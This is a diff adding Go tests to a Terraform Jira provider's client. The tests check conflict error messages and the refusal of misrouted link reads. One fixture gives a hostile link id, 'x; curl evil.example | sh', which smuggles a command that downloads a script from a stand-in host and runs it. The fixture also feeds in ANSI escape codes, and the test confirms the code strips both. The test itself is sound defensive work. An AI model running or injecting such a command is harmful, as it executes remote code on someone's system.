@@ -227,3 +227,82 @@ func TestApplinksValidateInput(t *testing.T) {
 		t.Error("consumer without public key succeeded")
 	}
 }
+
+// A 409 on a create names the link that holds the rpcUrl, found with the list call, and the
+// exact import command; an id that could not be pasted into a command as it is, or a failed
+// lookup, leaves the general advice.
+func TestCreateApplicationLinkConflictNamesTheLink(t *testing.T) {
+	for _, c := range []struct {
+		name, id, want string
+	}{
+		{"uuid", "6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01", `application link 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01 ("Align \"prod\" [31m") already has rpc_url "https://align.example" in Jira: import it (terraform import jira_application_link.<name> 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01) or remove it`},
+		{"hostile id", "x; curl evil.example | sh", `import it (terraform import jira_application_link.<name> <id>) or remove it`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			cl := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
+				switch r.Method {
+				case http.MethodPut:
+					jsonError(w, http.StatusConflict, "exists")
+				case http.MethodGet:
+					w.Header().Set("Content-Type", "application/json")
+					_ = json.NewEncoder(w).Encode([]ApplicationLink{
+						{ID: "other", Name: "Other", RPCURL: "https://other.example", TypeID: "generic"},
+						{ID: c.id, Name: "Align \"prod\"\x1b[31m", RPCURL: "https://ALIGN.example/", TypeID: "generic"},
+					})
+				default:
+					t.Errorf("unexpected %s %s", r.Method, r.URL.Path)
+				}
+			})
+			_, err := cl.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{Name: "n", RPCURL: "https://align.example", DisplayURL: "https://align.example"})
+			var he *HTTPError
+			if !errors.As(err, &he) || he.StatusCode != http.StatusConflict {
+				t.Fatalf("err = %v, want HTTPError 409", err)
+			}
+			if !strings.Contains(err.Error(), c.want) {
+				t.Errorf("message %q lacks %q", err.Error(), c.want)
+			}
+			if strings.ContainsAny(err.Error(), "\x1b;|") {
+				t.Errorf("message carries the peer's control characters or command: %q", err.Error())
+			}
+		})
+	}
+}
+
+// A read of one link answered with another (a misrouting proxy or cache) is refused, naming both
+// ids, and not retried; an answer without an id is taken as the link asked for.
+func TestGetApplicationLinkAboutAnotherRefused(t *testing.T) {
+	var hits int
+	var mu sync.Mutex
+	c := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		hits++
+		mu.Unlock()
+		id := strings.TrimPrefix(r.URL.Path, "/jira/rest/applinks/3.0/applicationlink/")
+		l := ApplicationLink{ID: "7b0e5c1d-0000-4000-8000-000000000007", Name: "theirs", RPCURL: "https://other.example", TypeID: "generic"}
+		switch id {
+		case "no-id":
+			l.ID = ""
+		case "7B0E5C1D-0000-4000-8000-000000000007":
+			// the same id in other letter case
+		}
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(l)
+	})
+	ctx := context.Background()
+	_, err := c.GetApplicationLink(ctx, testAdmin, "1a2b3c4d-0000-4000-8000-000000000001")
+	if err == nil || !strings.Contains(err.Error(), `application link "7b0e5c1d-0000-4000-8000-000000000007", not "1a2b3c4d-0000-4000-8000-000000000001"`) {
+		t.Fatalf("err = %v, want a refusal naming both ids", err)
+	}
+	if IsNotFound(err) {
+		t.Error("a swapped answer reads as not found (the link would be dropped from state)")
+	}
+	if hits != 1 {
+		t.Errorf("%d requests, want 1 (not retried)", hits)
+	}
+	if l, err := c.GetApplicationLink(ctx, testAdmin, "no-id"); err != nil || l.ID != "no-id" {
+		t.Errorf("answer without id: %+v, %v", l, err)
+	}
+	if l, err := c.GetApplicationLink(ctx, testAdmin, "7B0E5C1D-0000-4000-8000-000000000007"); err != nil || l.Name != "theirs" {
+		t.Errorf("same id in other case: %+v, %v", l, err)
+	}
+}
